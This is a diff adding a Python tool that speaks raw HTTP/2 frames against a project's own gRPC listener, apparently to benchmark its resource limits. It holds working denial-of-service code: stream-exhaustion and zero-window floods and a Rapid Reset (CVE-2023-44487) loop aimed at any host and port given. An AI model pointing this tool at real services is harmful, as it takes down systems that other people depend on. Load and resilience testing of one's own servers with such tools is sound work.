@@ -1,0 +1,200 @@
+#!/usr/bin/python3
+"""A hostile HTTP/2 client of the facade's gRPC listener, on one connection.
+
+Written on raw frames (no HTTP/2 library: Debian 12 has none for Python 3
+that we install), so it can do what a well-behaved client never does:
+
+  open    HEADERS of N calls, never their request: N streams held open.
+  unread  N whole calls with an initial window of 0: the server can never
+          send an answer, so each stays buffered on its side.
+  reset   Rapid Reset (CVE-2023-44487): HEADERS then RST_STREAM at once,
+          for --seconds, as fast as the socket takes them.
+
+open and unread first ACK the server's SETTINGS (as every HTTP/2 library
+does), so the server's SETTINGS_MAX_CONCURRENT_STREAMS is in force; then,
+after the last frame, a PING: its ACK means the server has read everything
+before it. They print one line of JSON (what the server advertised, how many
+streams it refused, whether it sent GOAWAY) and then hold the connection
+for --hold seconds, so a test can measure the server meanwhile. reset
+prints what it sent; pair it with the server's RSS and CPU (scripts or
+tests/bench/facade_bench) to see what the in-process bounds achieve.
+
+A benchmark-like tool: it prints figures and asserts nothing.
+"""
+
+import argparse
+import json
+import socket
+import struct
+import sys
+import time
+
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
+END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
+SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE = 0x3, 0x4
+METHOD = "/gong.flows.v1.FlowService/UnassignByInstanceIds"
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
+        struct.pack(">I", stream) + payload
+
+
+def hpack_int(value, prefix_bits, first=0):
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first | value])
+    out = [first | limit]
+    value -= limit
+    while value >= 128:
+        out.append(value % 128 + 128)
+        value //= 128
+    out.append(value)
+    return bytes(out)
+
+
+def hpack_literal(name, value):
+    # Literal header field without indexing, new name, no Huffman coding.
+    name, value = name.encode(), value.encode()
+    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value
+
+
+def request_headers(authority):
+    return b"".join(hpack_literal(n, v) for n, v in [
+        (":method", "POST"), (":scheme", "http"), (":path", METHOD),
+        (":authority", authority), ("content-type", "application/grpc"),
+        ("te", "trailers")])
+
+
+def grpc_message(flow_instance_id):
+    body = b"\x0a" + hpack_int(len(flow_instance_id), 7) + flow_instance_id.encode()
+    return b"\x00" + struct.pack(">I", len(body)) + body
+
+
+class Connection:
+    def __init__(self, address, initial_window):
+        host, port = address.rsplit(":", 1)
+        self.sock = socket.create_connection((host, int(port)))
+        self.buffer = b""
+        self.server_settings = {}
+        self.refused = 0
+        self.goaway = False
+        settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, initial_window)
+        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
+
+    def read_frame(self):
+        while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3], "big"):
+            chunk = self.sock.recv(65536)
+            if not chunk:
+                return None
+            self.buffer += chunk
+        length = int.from_bytes(self.buffer[:3], "big")
+        kind, flags = self.buffer[3], self.buffer[4]
+        payload = self.buffer[9:9 + length]
+        self.buffer = self.buffer[9 + length:]
+        if kind == SETTINGS and not flags & ACK:
+            for i in range(0, len(payload), 6):
+                key, value = struct.unpack(">HI", payload[i:i + 6])
+                self.server_settings[key] = value
+            self.sock.sendall(frame(SETTINGS, ACK, 0))
+        elif kind == RST_STREAM:
+            self.refused += 1
+        elif kind == GOAWAY:
+            self.goaway = True
+        return kind, flags
+
+    def await_settings(self):
+        while True:
+            got = self.read_frame()
+            if got is None or got[0] == SETTINGS and not got[1] & ACK:
+                return
+
+    def await_ping_ack(self):
+        """True once the server has read all we sent; False if it hung up."""
+        self.sock.sendall(frame(PING, 0, 0, b"flood-ok"))
+        while True:
+            got = self.read_frame()
+            if got is None:
+                return False
+            if got[0] == PING and got[1] & ACK:
+                return True
+
+
+def flood(args):
+    conn = Connection(args.address, 0 if args.mode == "unread" else 65535)
+    conn.await_settings()
+    headers = request_headers(args.address)
+    batch = []
+    sent = 0
+    for i in range(args.streams):
+        stream = 1 + 2 * i
+        if args.mode == "open":
+            batch.append(frame(HEADERS, END_HEADERS, stream, headers))
+        else:
+            batch.append(frame(HEADERS, END_HEADERS, stream, headers))
+            batch.append(frame(DATA, END_STREAM, stream, grpc_message(str(1000 + i % 300))))
+        if len(batch) >= 200 or i == args.streams - 1:
+            try:
+                conn.sock.sendall(b"".join(batch))
+            except OSError:
+                break
+            sent = i + 1
+            batch = []
+    read_all = False
+    try:
+        read_all = conn.await_ping_ack()
+    except OSError:
+        pass
+    advertised = conn.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS)
+    print(json.dumps({"mode": args.mode, "streams_sent": sent,
+                      "max_concurrent_streams": advertised,
+                      "refused": conn.refused, "goaway": conn.goaway,
+                      "server_read_all": read_all}), flush=True)
+    time.sleep(args.hold)  # hold the connection (and its streams) meanwhile
+
+
+def rapid_reset(args):
+    conn = Connection(args.address, 65535)
+    conn.await_settings()
+    headers = request_headers(args.address)
+    rst = struct.pack(">I", 0x8)  # CANCEL
+    stream, pairs = 1, 0
+    started = time.monotonic()
+    deadline = started + args.seconds
+    try:
+        while time.monotonic() < deadline:
+            batch = []
+            for _ in range(100):
+                batch.append(frame(HEADERS, END_HEADERS, stream, headers))
+                batch.append(frame(RST_STREAM, 0, stream, rst))
+                stream += 2
+            conn.sock.sendall(b"".join(batch))
+            pairs += 100
+            if stream > 2**31 - 256:
+                break
+    except OSError:
+        pass
+    elapsed = time.monotonic() - started
+    print(json.dumps({"mode": "reset", "streams_reset": pairs,
+                      "seconds": round(elapsed, 2),
+                      "resets_per_second": round(pairs / elapsed),
+                      "server_hung_up": conn.goaway}), flush=True)
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
+    parser.add_argument("address", help="HOST:PORT of a plaintext gRPC listener")
+    parser.add_argument("--mode", choices=["open", "unread", "reset"], required=True)
+    parser.add_argument("--streams", type=int, default=10000)
+    parser.add_argument("--seconds", type=float, default=20.0, help="reset: how long")
+    parser.add_argument("--hold", type=float, default=600.0,
+                        help="open, unread: how long to hold the connection after")
+    args = parser.parse_args()
+    if args.mode == "reset":
+        rapid_reset(args)
+    else:
+        flood(args)
+
+
+if __name__ == "__main__":
+    main()
